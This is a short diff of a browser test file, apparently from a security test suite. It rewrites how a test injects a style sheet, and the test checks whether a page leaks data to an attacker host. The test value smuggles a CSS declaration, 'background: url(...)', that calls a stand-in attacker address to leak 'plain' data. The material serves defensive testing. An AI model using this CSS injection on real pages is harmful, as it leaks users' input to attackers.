@@ -141,7 +141,9 @@ describe('style and layout', () => {
     control('a page that writes them into a style sheet asks the attacker', async () => {
       await scene.visit('/clipboard.html');
       await scene.driver.executeScript(
-        "document.head.append(Object.assign(document.createElement('style'), { textContent: `input { color: ${arguments[0]} }` }));",
+        "const style = document.createElement('style');" +
+          "style.textContent = 'input { color: ' + arguments[0] + ' }';" +
+          'document.head.append(style);',
         `red; background: url(${scene.evil('leak?plain')})`,
       );
       await until('it is asked', () => isLeaked('plain'));
